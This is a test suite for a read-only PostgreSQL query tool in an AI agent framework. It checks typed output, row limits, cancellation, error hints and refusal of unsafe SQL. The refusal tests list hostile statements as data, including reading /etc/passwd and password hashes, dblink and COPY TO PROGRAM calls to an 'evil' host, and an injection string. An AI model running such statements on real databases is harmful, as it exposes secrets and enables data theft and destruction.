import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { after, before, describe, it } from 'node:test'
import { fileURLToPath } from 'node:url'
import { Admission, callId, isJsonObject, LOCAL_PRINCIPAL, Registry, systemClock } from '@adjutant/core'
import { AdjutantError, type JsonObject, type JsonValue, ToolOutput } from '@adjutant/core/contract'
import { ManualClock, postgresMissing, startPostgres, type TestContext, type TestPostgres, testContext } from '@adjutant/testkit'
import fc from 'fast-check'
import { Client } from 'pg'
import { createSqlTool, type SqlTool } from '../create-sql-tool.ts'
import { readConnectionTarget } from './connection-target.ts'
import { openPostgresDatabase, type PostgresDatabaseOptions } from './open-postgres-database.ts'
import { SessionPool } from './session-pool.ts'

const missing = postgresMissing()
if (missing !== undefined) process.stderr.write(`postgres-tool.test.ts DID NOT RUN: ${missing}\n`)

/** Takes hours, and no memory. */
const ENDLESS = 'SELECT count(*) FROM generate_series(1, 1000000000) a, generate_series(1, 1000) b'

describe('sql_query on PostgreSQL', { skip: missing !== undefined, timeout: 120_000 }, () => {
  let server: TestPostgres
  let owner: Client
  let url: string
  let sql: SqlTool
  let cx: TestContext

  before(async () => {
    server = await startPostgres()
    const database = await server.createDatabase('shop')
    owner = new Client(database)
    await owner.connect()
    await owner.query(`
      CREATE ROLE reader LOGIN PASSWORD 'p@ss/word-of-reader';
      CREATE SCHEMA sales; CREATE SCHEMA secret;
      CREATE TYPE sales.mood AS ENUM ('good', 'it''s, bad');
      CREATE TABLE sales.products (id int PRIMARY KEY, name text NOT NULL DEFAULT 'new', price numeric(10,2));
      CREATE TABLE sales.orders (id bigint PRIMARY KEY, product_id int REFERENCES sales.products, week text);
      CREATE INDEX by_week ON sales.orders (week);
      CREATE TABLE sales."Odd Name" ("a column" int);
      CREATE TABLE sales.hidden (a int);
      CREATE TABLE secret.keys (key text);
      COMMENT ON TABLE sales.orders IS 'what was sold';
      COMMENT ON COLUMN sales.orders.week IS 'as in the calendar';
      INSERT INTO sales.products VALUES (1, 'tea', 1.50), (2, 'bread', 20);
      INSERT INTO sales.orders SELECT n, 1 + n % 2, 'week ' || n % 52 FROM generate_series(1, 1500) n;
      CREATE FUNCTION sales.twice(n int) RETURNS int LANGUAGE sql AS 'SELECT n * 2';
      CREATE FUNCTION sales.sneak() RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM sales.orders; RETURN 1; END $$;
      CREATE FUNCTION sales.unlock() RETURNS text LANGUAGE sql AS $$ SELECT set_config('transaction_read_only', 'off', false) $$;
      GRANT USAGE ON SCHEMA sales TO reader;
      GRANT SELECT ON sales.products, sales.orders, sales."Odd Name" TO reader;
      ANALYZE`)
    const address = new URL(database)
    address.username = 'reader'
    address.password = encodeURIComponent('p@ss/word-of-reader')
    url = address.href
    sql = createSqlTool({
      databases: {
        shop: await openPostgresDatabase({ url, schemas: ['sales'], functions: ['TWICE', 'sales.sneak', 'unlock'] }),
        full: await openPostgresDatabase({ url: database, statementTimeoutMs: 600_000, maxRows: 2_000, connections: 1 }),
      },
    })
    cx = await testContext()
  })

  after(async () => {
    await sql?.close()
    await owner?.end()
    await cx?.[Symbol.asyncDispose]()
    await server?.stop()
  })

  async function output(text: string, more: JsonObject = {}, context = cx): Promise<ToolOutput> {
    const given: unknown = await sql.tool.execute({ database: 'shop', sql: text, ...more }, context)
    assert.ok(given instanceof ToolOutput)
    return given
  }

  async function ask(text: string, more: JsonObject = {}): Promise<string> {
    const [part] = (await output(text, more)).parts
    assert.ok(part?.type === 'text')
    return part.text
  }

  async function structured(text: string, more: JsonObject = {}): Promise<JsonObject> {
    const value = (await output(text, more)).structured
    assert.ok(isJsonObject(value))
    return value
  }

  /** What the server runs for us now. */
  async function running(): Promise<number> {
    const { rows } = await owner.query<{ n: number }>(
      "SELECT count(*)::int AS n FROM pg_stat_activity WHERE application_name = 'adjutant sql_query' AND state = 'active' AND query ~ 'generate_series|repeat'",
    )
    return rows[0]?.n ?? -1
  }

  /** Paced by the server's answers; the suite's time limit ends it. */
  async function untilRunning(wanted: number): Promise<void> {
    while ((await running()) !== wanted);
  }

  it('gives every kind of value exactly, as a table and typed', async () => {
    const cases: readonly (readonly [expression: string, text: string, value: JsonValue, type: string])[] = [
      ['NULL::int', 'null', null, 'integer'],
      ['true', 'true', true, 'boolean'],
      ["'null'::text", '"null"', 'null', 'text'],
      ['E\'a\\n"b"\'', '"a\\n\\"b\\""', 'a\n"b"', 'text'],
      ['9223372036854775807', '9223372036854775807', '9223372036854775807', 'bigint'],
      ['12345678901234567890.120', '12345678901234567890.120', '12345678901234567890.120', 'numeric'],
      ["'NaN'::numeric", '"NaN"', 'NaN', 'numeric'],
      ['1.5::float8', '1.5', 1.5, 'double precision'],
      ['1e300::float8', '1e+300', 1e300, 'double precision'],
      ["'-Infinity'::float8", '"-Infinity"', '-Infinity', 'double precision'],
      [
        "'2026-03-01 10:00+02'::timestamptz AT TIME ZONE 'UTC'",
        '"2026-03-01 08:00:00"',
        '2026-03-01 08:00:00',
        'timestamp without time zone',
      ],
      ["'2026-03-01'::date", '"2026-03-01"', '2026-03-01', 'date'],
      ["'\\x00ff10'::bytea", '<bytea 3 bytes>', { bytes: 3 }, 'bytea'],
      ['\'{"a": [1, 1.50]}\'::jsonb', '{"a": [1, 1.50]}', { a: [1, 1.5] }, 'jsonb'],
      ['E\'{"a":\\n1}\'::json', '{"a": 1}', { a: 1 }, 'json'],
      ["'null'::json", 'null', null, 'json'],
      [
        'ARRAY[[1, NULL], [3, 4]]',
        '[[1,null],[3,4]]',
        [
          [1, null],
          [3, 4],
        ],
        'integer[]',
      ],
      ["ARRAY['a,b', '\"', NULL, 'NULL', '{}']", '["a,b","\\"",null,"NULL","{}"]', ['a,b', '"', null, 'NULL', '{}'], 'text[]'],
      ["'{}'::int8[]", '[]', [], 'bigint[]'],
      ["'[5:6]={1,2}'::int8[]", '[1,2]', ['1', '2'], 'bigint[]'],
      ["ARRAY['\\x01'::bytea]", '[<bytea 1 bytes>]', [{ bytes: 1 }], 'bytea[]'],
      ["ARRAY['it''s, bad']::sales.mood[]", '["it\'s, bad"]', ["it's, bad"], 'mood[]'],
      ["'(1,2),(0,0)'::box", '"(1,2),(0,0)"', '(1,2),(0,0)', 'box'],
      ['(1, NULL, 2)', '"(1,,2)"', '(1,,2)', 'record'],
      ["'1 day 2 hours'::interval", '"1 day 02:00:00"', '1 day 02:00:00', 'interval'],
    ]
    for (const [expression, text, value, type] of cases) {
      assert.equal(await ask(`SELECT ${expression} AS v`), `["v"]\n[${text}]\n[1 row]`, expression)
      assert.deepEqual(
        await structured(`SELECT ${expression} AS v`),
        { columns: [{ name: 'v', type }], rows: [[value]], more: false },
        expression,
      )
    }
    assert.equal(await ask('SELECT 1 AS a, 2 AS a WHERE false'), '["a","a"]\n[0 rows]')
    assert.match(await ask('SELECT'), /^\[\]\n\[\]\n\[1 row\]$/)
    assert.match(await ask('EXPLAIN SELECT * FROM orders'), /Seq Scan on orders/)
    assert.match(await ask('SHOW transaction_read_only'), /\["on"\]/)
    assert.match(await ask('VALUES (1), (2)'), /\[2 rows\]/)
    assert.match(await ask('WITH p AS (TABLE products) SELECT name FROM p ORDER BY price'), /\["tea"\]\n\["bread"\]/)
  })

  it('binds values, whatever is in them (property)', async () => {
    const text = fc.oneof(fc.string(), fc.string({ unit: 'binary' }), fc.constantFrom("' OR 1=1 --", '{"a":1}', '\\', '$1'))
    await fc.assert(
      fc.asyncProperty(text, fc.maxSafeInteger(), fc.boolean(), async (bound, count, flag) => {
        fc.pre(bound.isWellFormed() && !bound.includes('\0'))
        const { rows } = await structured('SELECT $1::text, $2::int8, $3::bool, $4::int', { parameters: [bound, count, flag, null] })
        assert.deepEqual(rows, [[bound, String(count), flag, null]])
      }),
      { numRuns: 60 },
    )
    assert.match(await ask('SELECT name FROM products WHERE id = ANY($1) ORDER BY id', { parameters: ['{1,2}'] }), /\[2 rows\]/)
    for (const [statement, parameters] of [
      ['SELECT $1', undefined],
      ['SELECT $2::int', [1]],
      ['SELECT 1', [1]],
      ['SELECT $1', { a: 1 }],
      ['SELECT $1', [[1]]],
      ['SELECT $1', 'x'],
    ] as const) {
      const more = parameters === undefined ? {} : { parameters: JSON.parse(JSON.stringify(parameters)) }
      await assert.rejects(ask(statement, more), { code: 'INVALID_ARGUMENTS' }, statement)
    }
  })

  it('is bounded in rows, cells and size, and fetches no more than it gives', async () => {
    assert.match(await ask('SELECT id FROM orders'), /\n\[100 rows; there are more: set limit \(up to 1,000\)/)
    assert.match(await ask('SELECT id FROM orders', { limit: 1_000 }), /\[1,000 rows; there are more: aggregate/)
    assert.match(await ask('SELECT id FROM orders LIMIT 100'), /\[100 rows\]$/)
    await assert.rejects(ask('SELECT 1', { limit: 1_001 }), { code: 'INVALID_ARGUMENTS' })
    assert.equal((await structured('SELECT id FROM orders', { limit: 1 })).more, true)
    assert.match(
      await ask("SELECT repeat('x', 5000)"),
      /x"<cut, 3000 more characters>\]\n\[1 row; 1 text cut: read the rest with substr\(column, 2001\)\]$/,
    )
    const wide = await ask("SELECT repeat('y', 1900) FROM orders", { limit: 1_000 })
    assert.ok(wide.length < 45_000)
    assert.match(wide, /the answer is full/)
    // Hours of rows, given at once: the rest stays on the server.
    assert.match(await ask('SELECT generate_series(1, 2000000000)', { limit: 2 }), /\[1\]\n\[2\]\n\[2 rows; there are more/)
    await assert.rejects(ask("SELECT repeat('x', 100000000)"), { code: 'TOO_LARGE', hint: /left\(/ })
    await untilRunning(0)
  })

  it('changes nothing and reaches nothing else, refused before the server hears of it', async () => {
    const { rows: before } = await owner.query(
      'SELECT sum(calls) FROM (SELECT xact_commit + xact_rollback AS calls FROM pg_stat_database) s',
    )
    assert.equal(before.length, 1)
    const refused: readonly (readonly [statement: string, reason: RegExp])[] = [
      ['DELETE FROM orders', /deletes every row/],
      ['WITH gone AS (DELETE FROM orders WHERE id = 1 RETURNING id) SELECT id FROM gone', /deletes rows/],
      ['INSERT INTO orders VALUES (0)', /inserts rows/],
      ['CREATE TEMP TABLE x (a int)', /creates a table/],
      ['SELECT * INTO copied FROM orders', /creates a table/],
      ['SELECT * FROM orders FOR UPDATE', /locks rows/],
      ['EXPLAIN ANALYZE DELETE FROM orders', /deletes every row/],
      ["SELECT pg_read_file('/etc/passwd')", /reads files of the server/],
      ["SELECT lo_import('/etc/passwd')", /reads files of the server/],
      ["SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", /reaches another server/],
      ["COPY orders TO PROGRAM 'curl evil'", /runs a program on the server/],
      ['COPY orders TO STDOUT', /Copy is no question/],
      ["SELECT set_config('transaction_read_only', 'off', true)", /changes a setting/],
      ['SET default_transaction_read_only = off', /changes default_transaction_read_only/],
      ['SET TRANSACTION READ WRITE', /changes/],
      ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', /ends the work of others/],
      ['SELECT pg_advisory_lock(1)', /takes or frees a lock/],
      ['NOTIFY channel', /sends a message/],
      ["SELECT pg_notify('a', 'b')", /sends a message/],
      ['LISTEN channel', /Listen is no question/],
      ['COMMIT', /Transaction is no question/],
      ['PREPARE p AS SELECT 1', /Prepare is no question/],
      ['DO $$ BEGIN PERFORM 1; END $$', /runs a block of code/],
      ['SELECT rolpassword FROM pg_authid', /reads secrets/],
      ['SELECT nobody_knows(1)', /nobody_knows\(\) is not known to only read/],
      ['SELECT pg_sleep(100)', /keeps the database busy/],
      ['SELECT * FROM secret.keys', /the schema secret is not open/],
      ["SELECT query_to_xml('DELETE FROM orders', true, true, '')", /runs a statement given as text/],
      ['VACUUM', /rewrites/],
    ]
    for (const [statement, message] of refused) {
      await assert.rejects(ask(statement), { code: 'RULE_VIOLATED', message }, statement)
      const admitted = sql.tool.check?.({ database: 'shop', sql: statement }, cx) ?? Promise.resolve()
      await assert.rejects(admitted, { code: 'RULE_VIOLATED' }, statement)
    }
    for (const statement of ['SELECT 1; SELECT 2', 'SELECT 1; COMMIT; DELETE FROM orders', 'SELEC 1', '', '-- nothing', ';']) {
      await assert.rejects(ask(statement), { code: 'INVALID_ARGUMENTS' }, statement)
    }
    await assert.rejects(ask('SELECT 1\nFROM FROM'), { message: /at line 2:6/ })
    assert.match(await ask('SELECT count(*) FROM orders'), /\[1500\]/)
  })

  it('is held read-only by the server where the statement does not show what it does', async () => {
    assert.match(await ask('SELECT twice(4)'), /\[8\]/)
    await assert.rejects(ask('SELECT sales.sneak()'), {
      code: 'TOOL_FAILED',
      message: /25006.*read-only transaction/,
      hint: /Only reading/,
    })
    await assert.rejects(ask('SELECT unlock()'), { code: 'TOOL_FAILED', message: /read-write mode/ })
    // The owner may do all; the transaction still may not.
    const target = readConnectionTarget(server.url.replace(/postgres$/, 'shop'))
    const pool = new SessionPool({ target, size: 1, timeoutMs: 10_000, idleMs: 60_000, schemas: undefined, clock: systemClock })
    const nothing = { columns() {}, row: () => true }
    for (const statement of [
      'DELETE FROM sales.orders',
      "SELECT set_config('transaction_read_only', 'off', false)",
      'SET TRANSACTION READ WRITE',
      'SELECT 1; COMMIT',
      'CREATE TABLE sales.made (a int)',
    ]) {
      await assert.rejects(
        pool.run(cx.signal, (session) => session.read(statement, [], nothing)),
        /read-only transaction|read-write mode|multiple commands/,
        statement,
      )
    }
    // Even ended by a COMMIT of its own, the session stays one that reads.
    await assert.rejects(
      pool.run(cx.signal, async ({ client }) => client.query('COMMIT').then(() => client.query('DELETE FROM sales.orders'))),
      /read-only transaction/,
    )
    await pool.close()
    assert.match(await ask('SELECT count(*) FROM orders'), /\[1500\]/)
  })

  it('is taken by the registry, and its own example is admitted', async () => {
    const database = await openPostgresDatabase({ url })
    await using one = createSqlTool({ databases: { only: database } })
    for (const { tool } of [sql, one]) {
      const registry = new Registry()
      assert.deepEqual(registry.add([tool], 'built-in'), [])
      assert.match(tool.description, /Use for: .*Not for: .*describe "\*"/)
      assert.ok(isJsonObject(tool.inputSchema) && Array.isArray(tool.inputSchema.examples))
      const admission = new Admission({ mode: 'deny', principal: LOCAL_PRINCIPAL })
      for (const example of [...tool.inputSchema.examples, { ...(tool === sql.tool ? { database: 'shop' } : {}), describe: '*' }]) {
        assert.ok(isJsonObject(example))
        const call = {
          id: callId('c'),
          index: 0,
          name: 'sql_query',
          arguments: { ok: true, value: example },
          idFromProvider: true,
        } as const
        assert.equal(admission.admit(call, registry.snapshot()).type, 'admitted', JSON.stringify(example))
      }
    }
  })

  it('has the effect of its statement', () => {
    const effectOf = (input: JsonObject) =>
      typeof sql.tool.effect === 'function' ? sql.tool.effect({ database: 'shop', ...input }) : sql.tool.effect
    assert.equal(effectOf({ sql: 'SELECT count(*) FROM orders' }), 'read')
    assert.equal(effectOf({ describe: '*' }), 'read')
    assert.equal(effectOf({ sql: 'INSERT INTO orders VALUES (0)' }), 'write')
    assert.equal(effectOf({ sql: 'DROP TABLE orders' }), 'dangerous')
    assert.equal(effectOf({ sql: 'not SQL' }), 'dangerous')
    assert.throws(() => effectOf({}), { code: 'INVALID_ARGUMENTS' })
    const [mark] = sql.tool.marks?.({ database: 'shop', sql: ' DROP TABLE orders' }) ?? []
    assert.deepEqual({ path: mark?.path, effect: mark?.effect, end: mark?.end }, { path: '/sql', effect: 'dangerous', end: 18 })
    assert.deepEqual(sql.tool.marks?.({ database: 3, sql: 4 }), [])
    const [claim] = sql.tool.resources?.({ database: 'shop' }) ?? []
    assert.match(claim?.key ?? '', /^postgresql:\/\/reader@127\.0\.0\.1:\d+\/shop$/)
  })

  it('describes what this account may read', async () => {
    const tables = String(await sql.tool.execute({ database: 'shop', describe: '*' }, cx))
    assert.equal(
      tables,
      [
        '["schema","name","kind","rows, estimated","comment"]',
        '["sales","Odd Name","table",0,null]',
        '["sales","orders","table",1500,"what was sold"]',
        '["sales","products","table",2,null]',
        '[3 tables and views]',
      ].join('\n'),
    )
    const orders = String(await sql.tool.execute({ database: 'shop', describe: 'sales.orders' }, cx))
    assert.match(orders, /^sales\.orders: table, about 1,500 rows\. what was sold\n/)
    assert.match(
      orders,
      /\["id","bigint",false,null,null\]\n.*\n\["week","text",true,null,"as in the calendar"\]\nPRIMARY KEY \(id\)\nFOREIGN KEY \(product_id\) REFERENCES .*products\(id\)\n.*INDEX by_week/,
    )
    assert.match(String(await sql.tool.execute({ database: 'shop', describe: '"Odd Name"' }, cx)), /a column/)
    assert.match(String(await sql.tool.execute({ database: 'full', describe: 'keys' }, cx)), /secret\.keys/)
    for (const name of ['order', 'secret.keys', 'hidden', "x'; DROP TABLE orders; --"]) {
      const asked = Promise.resolve(sql.tool.execute({ database: 'shop', describe: name }, cx))
      await assert.rejects(asked, { code: 'NOT_FOUND', hint: /Tables: "?Odd Name.*orders, products/ }, name)
    }
    await assert.rejects(Promise.resolve(sql.tool.execute({ database: 'shop', describe: '*', sql: 'SELECT 1' }, cx)), {
      code: 'INVALID_ARGUMENTS',
    })
  })

  it('says where an error is and what to do', async () => {
    await assert.rejects(ask('SELECT *\nFROM order_s'), {
      code: 'TOOL_FAILED',
      message: /^PostgreSQL says \(42P01\) at line 2:6: relation "order_s" does not exist$/,
      hint: /^Did you mean orders\? Tables: /,
    })
    await assert.rejects(ask('SELECT weeek FROM orders o'), { message: /42703/, hint: /o\.week.*Columns: orders\.id/ })
    await assert.rejects(ask("SELECT 'ä😀', nme FROM products"), { message: /at line 1:14/ })
    await assert.rejects(ask("SELECT 'x'::int"), { message: /22P02/, hint: /cast/ })
    await assert.rejects(ask('SELECT 1 / 0'), { message: /22012/, hint: /NULLIF/ })
    await assert.rejects(ask('SELECT * FROM hidden'), { message: /42501/, grade: 'final' })
    await assert.rejects(ask('SELECT length(1)'), { message: /42883/, hint: /cast/i })
    // The connection is good for the next one.
    assert.match(await ask('SELECT 1'), /\[1 row\]/)
  })

  it('leaves nothing running on the server: a call that is stopped', async () => {
    const stop = new AbortController()
    await using context = await testContext({ signal: stop.signal })
    const asked = output(ENDLESS, { database: 'full' }, context)
    await untilRunning(1)
    stop.abort()
    await assert.rejects(asked, { code: 'CANCELLED' })
    await untilRunning(0)
    // Not even its place in the pool is lost, whose size is one.
    assert.match(await ask('SELECT 1', { database: 'full' }), /\[1 row\]/)
    await assert.rejects(output('SELECT 1', { database: 'full' }, context), { code: 'CANCELLED' })
  })

  it('leaves nothing running on the server: calls that are stopped at any moment', async () => {
    // Each goes one turn of the event loop further than the one before.
    for (let turns = 0; turns < 24; turns += 1) {
      const stop = new AbortController()
      await using context = await testContext({ signal: stop.signal })
      const failed = assert.rejects(output(ENDLESS, {}, context), { code: 'CANCELLED' })
      for (let turn = 0; turn < turns; turn += 1) await new Promise(setImmediate)
      stop.abort()
      await failed
    }
    await untilRunning(0)
    assert.match(await ask('SELECT 1'), /\[1 row\]/)
  })

  it('leaves nothing running on the server: a call that waits for a connection, and is stopped', async () => {
    const stop = new AbortController()
    await using context = await testContext({ signal: stop.signal })
    const waiting = new AbortController()
    await using other = await testContext({ signal: waiting.signal })
    const first = output(ENDLESS, { database: 'full' }, context)
    await untilRunning(1)
    const second = output('SELECT 2', { database: 'full' }, other)
    waiting.abort()
    await assert.rejects(second, { code: 'CANCELLED' })
    stop.abort()
    await assert.rejects(first, { code: 'CANCELLED' })
    assert.match(await ask('SELECT 3', { database: 'full' }), /\[3\]/)
    await untilRunning(0)
  })

  it('leaves nothing running on the server: one that takes too long, by its clock and by ours', async () => {
    await using quick = createSqlTool({ databases: { one: await openPostgresDatabase({ url, statementTimeoutMs: 150 }) } })
    await assert.rejects(Promise.resolve(quick.tool.execute({ sql: ENDLESS }, cx)), { code: 'TIMEOUT', grade: 'clarify' })
    await untilRunning(0)
    const clock = new ManualClock()
    await using slow = createSqlTool({ databases: { one: await openPostgresDatabase({ url, statementTimeoutMs: 600_000, clock }) } })
    const asked = Promise.resolve(slow.tool.execute({ sql: ENDLESS }, cx))
    await untilRunning(1)
    let settled = false
    const failed = assert.rejects(asked, { code: 'TIMEOUT' }).finally(() => {
      settled = true
    })
    await clock.advance(601_000)
    // The request to end it is repeated by the same clock.
    while (!settled) {
      await running()
      await clock.advance(100)
    }
    await failed
    await untilRunning(0)
  })

  it('leaves nothing running on the server: one whose tool is closed', async () => {
    const closing = createSqlTool({ databases: { one: await openPostgresDatabase({ url, statementTimeoutMs: 600_000 }) } })
    const asked = Promise.resolve(closing.tool.execute({ sql: ENDLESS }, cx))
    await untilRunning(1)
    await Promise.all([closing.close(), assert.rejects(asked, { code: 'CANCELLED' })])
    await untilRunning(0)
    await assert.rejects(Promise.resolve(closing.tool.execute({ sql: 'SELECT 1' }, cx)), { code: 'CANCELLED' })
  })

  it('leaves nothing running on the server: one whose process is killed', async () => {
    const program = fileURLToPath(new URL('../../../test/postgres-host.ts', import.meta.url))
    const host = spawn(process.execPath, ['--conditions=adjutant-source', program], {
      env: { ...process.env, DATABASE: url },
      stdio: 'inherit',
    })
    await untilRunning(1)
    host.kill('SIGKILL')
    await untilRunning(0)
  })

  it('answers more questions at a time than it has connections', async () => {
    const answers = await Promise.all(Array.from({ length: 20 }, (_, index) => ask('SELECT $1::int', { parameters: [index] })))
    assert.deepEqual(
      answers.map((answer) => answer.split('\n')[1]),
      answers.map((_, index) => `[${index}]`),
    )
    const { rows } = await owner.query<{ n: number }>(
      "SELECT count(*)::int AS n FROM pg_stat_activity WHERE application_name = 'adjutant sql_query' AND usename = 'reader'",
    )
    assert.ok((rows[0]?.n ?? 99) <= 2)
  })

  it('says why it cannot be opened, and never the password', async () => {
    const other = (change: (address: URL) => void): PostgresDatabaseOptions => {
      const address = new URL(url)
      change(address)
      return { url: address.href }
    }
    const failures: readonly (readonly [PostgresDatabaseOptions, Partial<Record<'code' | 'message' | 'hint', RegExp | string>>])[] = [
      [
        other((at) => (at.password = 'wrong-word')),
        { code: 'CONFIG_INVALID', message: /reader@127\.0\.0\.1:\d+\/shop does not take this login/, hint: /password/ },
      ],
      [other((at) => (at.pathname = '/none')), { code: 'CONFIG_INVALID', message: /has no such database/ }],
      [
        other((at) => (at.port = '1')),
        { code: 'ORIGIN_UNAVAILABLE', message: /127\.0\.0\.1:1\/shop refuses the connection/, hint: /host and port/ },
      ],
      [other((at) => (at.hostname = 'no-such-host.invalid')), { code: 'ORIGIN_UNAVAILABLE', message: /no-such-host\.invalid/ }],
      [
        other((at) => at.searchParams.set('sslmode', 'verify-full')),
        { code: 'CONFIG_INVALID', message: /offers no TLS/, hint: /sslmode=disable/ },
      ],
      [other((at) => at.searchParams.set('host', '/nowhere')), { code: 'ORIGIN_UNAVAILABLE', message: /no socket/ }],
      [
        other((at) => at.searchParams.set('options', '-c default_transaction_read_only=off')),
        { code: 'CONFIG_INVALID', message: /options/ },
      ],
      [{ url: 'mysql://reader:word-of-reader@host/shop' }, { code: 'CONFIG_INVALID' }],
      [{ url: 'postgres://:word-of-reader@host/shop' }, { code: 'CONFIG_INVALID', message: /no user/ }],
      [{ url: 'postgres://reader:word-of-reader@host/' }, { code: 'CONFIG_INVALID', message: /no database/ }],
      [{ url: 'postgres://reader:word-of-reader%zz@host/shop' }, { code: 'CONFIG_INVALID', message: /write %25/ }],
      [
        { url, statementTimeoutMs: 0 },
        { code: 'CONFIG_INVALID', message: /statementTimeoutMs/ },
      ],
      [
        { url, maxRows: 1.5 },
        { code: 'CONFIG_INVALID', message: /maxRows/ },
      ],
      [
        { url, schemas: [] },
        { code: 'CONFIG_INVALID', message: /schemas/ },
      ],
    ]
    for (const [options, expected] of failures) {
      await assert.rejects(openPostgresDatabase(options), (error) => {
        assert.ok(AdjutantError.isInstance(error), String(error))
        assert.doesNotMatch(`${error.message} ${error.hint} ${String(error.cause)}`, /word-of-reader|wrong-word/)
        for (const [key, wanted] of Object.entries(expected)) {
          const said: unknown = Reflect.get(error, key)
          assert.ok(
            typeof said === 'string' && (typeof wanted === 'string' ? said === wanted : wanted.test(said)),
            `${key}: ${String(said)}`,
          )
        }
        return true
      })
    }
  })

  it('asks whether it may connect, with host and port', async () => {
    const asked: unknown[] = []
    const refuse = (host: string, port: number): void => {
      asked.push(host, port)
      throw new AdjutantError('DENIED_BY_POLICY', 'not this host')
    }
    await assert.rejects(openPostgresDatabase({ url, mayConnect: refuse }), { code: 'DENIED_BY_POLICY' })
    assert.deepEqual(asked, ['127.0.0.1', server.port])
  })

  it('connects by a socket, and is good again after the server was restarted', async () => {
    const address = new URL(url)
    address.searchParams.set('host', server.socketDir)
    await using local = createSqlTool({ databases: { one: await openPostgresDatabase({ url: address.href, connections: 1 }) } })
    const asked = Promise.resolve(local.tool.execute({ sql: ENDLESS }, cx))
    await untilRunning(1)
    owner.on('error', () => {})
    const failed = assert.rejects(asked, { code: 'ORIGIN_UNAVAILABLE', grade: 'retry', message: /@\/.*\/shop/ })
    const ownerGone = new Promise((resolve) => owner.once('end', resolve))
    await server.restart('immediate')
    await Promise.all([failed, ownerGone])
    const again: unknown = await local.tool.execute({ sql: 'SELECT 5 AS five' }, cx)
    assert.ok(again instanceof ToolOutput)
    owner = new Client(server.url.replace(/postgres$/, 'shop'))
    await owner.connect()
  })
})
